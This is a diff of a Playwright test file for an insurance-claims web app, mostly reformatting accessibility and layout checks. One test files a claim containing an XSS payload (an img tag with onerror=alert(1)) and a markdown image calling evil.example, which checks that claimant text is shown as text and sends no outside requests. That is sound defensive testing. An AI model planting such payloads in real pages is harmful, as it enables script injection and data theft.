@@ -1,14 +1,21 @@
 import AxeBuilder from "@axe-core/playwright";
-import { expect, fileClaim, referenceOf, type Role, test } from "./people";
+import { expect, fileClaim, type Role, referenceOf, test } from "./people";
 
 const widths = { "a desk": { width: 1440, height: 900 }, "a phone": { width: 390, height: 844 } };
 
 for (const [name, viewport] of Object.entries(widths)) {
-  test(`every page is accessible, in light and dark, and fits on ${name}`, async ({ as, request, browser, baseURL }) => {
+  test(`every page is accessible, in light and dark, and fits on ${name}`, async ({
+    as,
+    request,
+    browser,
+    baseURL,
+  }) => {
     test.slow();
     const sessionId = await fileClaim(request, "My balcony door shattered in the storm, the glazier wants $1,900");
     const reference = await referenceOf(request, sessionId);
-    const own = await request.get("/api/v1/reviews?status=open", { headers: { authorization: "Bearer demo-reviewer-key" } });
+    const own = await request.get("/api/v1/reviews?status=open", {
+      headers: { authorization: "Bearer demo-reviewer-key" },
+    });
     const { reviews } = await own.json();
     const waitId = reviews.find((one: { session_id: string }) => one.session_id === sessionId).id;
     const started = await request.post("/execute", {
@@ -29,10 +36,14 @@ for (const [name, viewport] of Object.entries(widths)) {
         await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
         await expect(page.locator("html")).toHaveAttribute("data-theme", colorScheme);
         const { violations } = await new AxeBuilder({ page }).analyze();
-        const found = violations.map(({ id, nodes }) => `${path} in ${colorScheme}: ${id} ${nodes.map((node) => node.target).join(" ")}`);
+        const found = violations.map(
+          ({ id, nodes }) => `${path} in ${colorScheme}: ${id} ${nodes.map((node) => node.target).join(" ")}`,
+        );
         expect(found).toEqual([]);
       }
-      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+      const overflow = await page.evaluate(
+        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+      );
       expect(overflow, `${path} scrolls sideways`).toBeLessThanOrEqual(0);
     };
     const visitor = await browser.newContext({ baseURL, viewport });
@@ -46,8 +57,15 @@ for (const [name, viewport] of Object.entries(widths)) {
 }
 
 test("words from claimants are shown as text, and no request leaves the page", async ({ as, request }) => {
-  const sessionId = await fileClaim(request, "Fire in my kitchen, $9,000 ![x](https://evil.example/?d=1) <img src=https://evil.example/a onerror=alert(1)>", "demo-claimant-key");
-  for (const [role, path] of [["claimant", `/claims/${sessionId}`], ["admin", `/sessions/${sessionId}`]] as const) {
+  const sessionId = await fileClaim(
+    request,
+    "Fire in my kitchen, $9,000 ![x](https://evil.example/?d=1) <img src=https://evil.example/a onerror=alert(1)>",
+    "demo-claimant-key",
+  );
+  for (const [role, path] of [
+    ["claimant", `/claims/${sessionId}`],
+    ["admin", `/sessions/${sessionId}`],
+  ] as const) {
     const page = await as(role);
     const outside: string[] = [];
     page.on("request", (sent) => {
